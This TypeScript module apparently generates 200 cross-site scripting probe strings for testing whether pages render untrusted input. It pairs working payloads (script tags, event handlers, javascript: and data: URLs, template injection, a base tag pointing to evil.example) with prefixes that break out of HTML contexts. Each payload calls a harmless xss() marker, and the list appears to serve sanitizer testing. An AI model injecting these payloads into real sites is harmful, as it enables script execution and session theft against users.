/** Texts that call `xss` when a page interprets them as markup, a script or a URL. */
const CORES: readonly string[] = [
  "<script>xss()</script>",
  "<img src=x onerror=xss()>",
  "<svg onload=xss()>",
  "<svg/onload=xss()//",
  "<iframe srcdoc='<script>parent.xss()</script>'>",
  "<details open ontoggle=xss()>",
  "<video><source onerror=xss()>",
  "<input autofocus onfocus=xss()>",
  "<a href=javascript:xss()>x</a>",
  "<math><mtext></form><mglyph><svg><script>xss()</script>",
  "<body onload=xss()>",
  "<style>@import 'x';</style><link rel=stylesheet href=x>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=javascript:xss()>",
  "<object data=javascript:xss()>",
  "javascript:xss()",
  "data:text/html,<script>xss()</script>",
  "{{constructor.constructor('xss()')()}}",
  "&lt;script&gt;xss()&lt;/script&gt;",
  "\u202e<script>xss()</script>\u200b",
];

/** Prefixes that end the element or the text into which a page inserts the payload. */
const BEFORE: readonly string[] = [
  "",
  '">',
  "'>",
  "</title>",
  "</script>",
  "-->",
  "</textarea>",
  "`}",
  '"};xss();//',
  "]]>",
];

/**
 * Two hundred texts. They are sorted by length, which mixes the prefixes, because a short run uses only
 * the first texts.
 */
export const PAYLOADS: readonly string[] = BEFORE.flatMap((before) =>
  CORES.map((core) => before + core),
).sort((one, other) => one.length - other.length || (one < other ? -1 : 1));
